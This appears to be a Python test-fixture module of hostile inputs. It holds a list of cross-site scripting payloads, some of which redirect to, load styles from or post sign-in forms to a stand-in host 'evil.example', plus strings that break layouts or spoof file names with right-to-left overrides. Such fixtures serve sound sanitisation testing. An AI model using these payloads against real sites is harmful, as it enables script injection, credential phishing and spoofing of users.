"""Hostile inputs: script injections, and texts that break layouts and writing directions."""

from __future__ import annotations

XSS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[click](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "https://example.com/\"onmouseover=alert(1)//",
    "https://example.com/'><script>alert(1)</script>",
    "https://example.com@evil.example/<script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Sign in again",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\"><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
)  # fmt: skip

ZALGO = "Z" + "\u0317\u0321\u0335\u0346\u034e\u0489" * 20 + "algo" + "\u030d\u033f\u0359" * 40

UNRULY = {
    "one line of 8,000 letters": "w" * 8_000,
    "8,000 wide signs without a break": "漢" * 8_000,
    "an address without a break": "https://example.com/" + "a-b_c" * 300,
    "marks stacked on letters": ZALGO,
    "right to left, overridden": "\u202eevil \u2066txt.exe\u2069 \u200fمرحبا " * 20,
    "families": "👩‍👩‍👧‍👦" * 150,
    "700 lines": "\n".join("line" for _ in range(700)),
    "looks like markup": "<table><tr><td>" * 100 + "| a | b |\n|---|---|\n" * 20,
}
